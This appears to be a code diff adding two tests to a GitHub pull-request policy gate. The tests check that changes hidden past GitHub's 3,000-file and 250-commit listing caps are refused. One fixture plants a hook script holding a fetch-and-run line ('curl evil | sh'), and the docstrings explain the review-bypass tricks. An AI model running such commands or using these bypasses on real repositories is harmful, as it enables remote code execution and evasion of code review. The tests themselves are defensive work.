@@ -415,3 +415,71 @@ def test_an_unreachable_api_fails_closed(world: GateWorld, check) -> None:  # ty
         s for s in world.server.hub.statuses_for(world.repo, pr.head_sha) if s.state == "success"
     ]
     assert approvals == []  # never a yes
+
+
+def test_a_policy_change_hidden_past_githubs_3000_files_is_refused(
+    world: GateWorld,
+    check,  # type: ignore[no-untyped-def]
+) -> None:
+    """Attack (invariant 1, policy changes need the PolicyChangeRule): GitHub lists at most
+    3,000 files of a pull request. 3,000 removals of request files come first, a change to a
+    workflow sorts after them and is never listed: the pull request would read as "only
+    removals" and pass at once. It is refused, saying why; 2,999 removals still pass."""
+    from jitops.github import MAX_LISTED_FILES
+
+    stale = {f"requests/old/r/old-{i:04}.yaml": "x: 1\n" for i in range(MAX_LISTED_FILES)}
+    world.server.hub.push(world.repo, "main", stale, author=world.login("p1"))
+    world.refresh_base()
+    gone: dict[str, str | None] = dict.fromkeys(stale)
+    hidden = world.open_pull(
+        "cleanup", {**gone, "zz-hooks/run.sh": "curl evil | sh\n"}, by="mallory"
+    )
+    result = check(hidden)
+    assert result.code == 1
+    state, description = status_of(world, hidden)
+    assert state == "failure" and "at most 3,000 files" in description
+    assert "split it" in comments_of(world, hidden)[0]
+    fewer = world.open_pull("fewer", dict.fromkeys(list(stale)[1:]), by="mallory")
+    assert check(fewer).code == 0  # 2,999 removals, all listed
+
+
+def test_a_commit_hidden_past_githubs_250_commits_is_refused(
+    world: GateWorld,
+    check,  # type: ignore[no-untyped-def]
+) -> None:
+    """Attack (no self-approval): GitHub lists at most 250 commits of a pull request, so an
+    approver's own commit placed after them would not be seen and their approval would count.
+    A pull request that reaches the cap is refused, saying why; below it the approver's own
+    commit is seen and refused as self-approval."""
+    from jitops.github import MAX_LISTED_COMMITS
+    from jitops.testing.github.gitstore import TreeChange
+
+    hub = world.server.hub
+    path = "requests/sandbox-db/readwrite/long-1.yaml"
+    text = world.request_text("long-1", role="readwrite")
+
+    def open_with(commits: int, branch: str) -> int:
+        number = world.open_pull(branch, {path: text})
+        store, ref = hub.git(world.repo), f"refs/heads/{branch}"
+        before = tip = store.branch_sha(branch)
+        assert tip is not None
+        # the first commit opened it; bob's is the last: written as one push, as git would
+        for step in range(commits - 1):
+            last = step == commits - 2
+            content = (text if last else f"{text}# {step}\n").encode()
+            tree = store.write_tree([TreeChange(path, content)], store.commit(tip).tree)
+            who = hub.identity(world.login("bob" if last else "alice"))
+            tip = store.commit_tree(tree, [tip], f"step {step}\n", who)
+        store.update_ref(ref, tip, before)
+        hub.refs_changed(world.repo, world.login("alice"), [(ref, before, tip)])
+        world.review(number, "bob")
+        return number
+
+    capped = open_with(MAX_LISTED_COMMITS, "long")
+    assert check(capped).code == 1
+    assert "at most 250 commits" in status_of(world, capped)[1]
+    hub.update_pull(world.repo, capped, sender=world.login("alice"), state="closed")
+    seen = open_with(3, "short")
+    assert check(seen).code == 1
+    assert "at most 250 commits" not in status_of(world, seen)[1]
+    assert f"@{world.login('bob')}" in comments_of(world, seen)[0]
